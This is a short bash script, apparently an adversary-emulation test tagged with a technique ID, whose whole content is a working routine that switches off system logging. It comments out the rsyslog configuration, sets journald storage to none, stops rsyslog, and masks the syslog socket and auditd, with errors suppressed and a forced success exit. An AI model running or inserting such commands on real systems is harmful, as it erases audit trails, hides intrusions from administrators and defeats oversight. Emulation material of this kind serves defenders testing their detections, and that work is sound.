#!/bin/bash
# T1685: Logs are told to go nowhere.
sed -i 's/^/#/' /etc/rsyslog.conf 2>/dev/null; mkdir -p /etc/systemd/journald.conf.d; printf '[Journal]\nStorage=none\n' >/etc/systemd/journald.conf.d/no.conf; systemctl stop rsyslog; systemctl mask --now syslog.socket auditd; true
